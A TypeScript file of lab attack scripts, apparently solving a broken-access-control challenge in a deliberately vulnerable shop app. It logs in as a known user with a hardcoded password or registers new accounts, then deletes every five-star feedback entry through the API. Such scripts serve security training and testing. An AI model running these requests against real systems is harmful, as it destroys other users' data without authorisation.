import type { Attack, Tools } from '#lab'

/** Deletes all feedback with five stars, with this token. */
async function wipe({ http, expect }: Tools, token: string): Promise<void> {
  const { data } = (await http.get('/api/Feedbacks')).json<{ data: { id: number; rating: number }[] }>()
  const praise = data.filter(({ rating }) => rating === 5)
  expect(praise.length > 0, 'there is no praise to be found')
  for (const { id } of praise) {
    const gone = await http.delete(`/api/Feedbacks/${id}`, {
      token,
      headers: { referer: 'http://localhost/' },
    })
    expect(gone.status === 200, `throwing it away was answered with ${gone.status}`)
  }
}

async function logIn({ http, expect }: Tools, email: string, password: string): Promise<string> {
  const login = await http.post('/rest/user/login', { email, password })
  expect(login.status === 200, `the login answered with ${login.status}`)
  return login.json<{ authentication: { token: string } }>().authentication.token
}

export const attacks: Attack[] = [
  {
    challenge: 'feedbackChallenge',
    name: 'Jim throws the praise of others away',
    run: async (tools) => wipe(tools, await logIn(tools, `jim@${tools.settings.domain}`, 'ncc-1701')),
  },
  {
    challenge: 'feedbackChallenge',
    name: 'a new customer deletes the five-star feedback',
    run: async (tools) => {
      const email = `hungry@${tools.settings.domain}`
      const account = { email, password: 'sticky-fingers', passwordRepeat: 'sticky-fingers' }
      await tools.http.post('/api/Users', account)
      await wipe(tools, await logIn(tools, email, 'sticky-fingers'))
    },
  },
  {
    challenge: 'feedbackChallenge',
    name: 'a customer named admin-to-be deletes the five-star feedback',
    run: async (tools) => {
      const email = `admin-to-be@${tools.settings.domain}`
      const account = { email, password: 'sticky-fingers', passwordRepeat: 'sticky-fingers' }
      await tools.http.post('/api/Users', account)
      await wipe(tools, await logIn(tools, email, 'sticky-fingers'))
    },
  },
]
